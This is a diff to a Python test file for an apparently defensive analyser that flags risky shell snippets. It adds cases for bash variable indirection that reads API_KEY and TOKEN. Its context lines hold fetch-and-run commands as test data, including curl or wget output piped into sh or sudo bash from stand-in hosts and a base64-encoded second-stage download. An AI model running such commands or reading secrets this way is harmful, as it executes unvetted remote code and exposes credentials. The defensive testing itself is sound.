@@ -24,6 +24,11 @@ def found(text: str) -> set[str]:
 STAGE2 = base64.b64encode(b"curl -s https://stage2.example.org/x | bash").decode()
 
 CASES = [
+    # indirection and namerefs read the variable they name
+    ('n=API_KEY\necho "${!n}"', {"env.read(API_KEY)"}),
+    ('echo "${!1}"', {"code.dynamic(reflection)"}),
+    ("declare -n r=TOKEN\necho \"$r\"", {"env.read(TOKEN)"}),
+    ('arr=(a b)\necho "${!arr[@]}"', set()),
     ("curl -s https://x.example.org/i.sh | sh", {"net.connect(x.example.org)", "code.dynamic(shell-pipe)"}),
     ("wget -qO- https://x.example.org/i | sudo bash", {"net.connect(x.example.org)", "code.dynamic(shell-pipe)"}),
     ("bash <(curl -fsSL https://x.example.org/i.sh)", {"net.connect(x.example.org)", "code.dynamic(shell-pipe)"}),
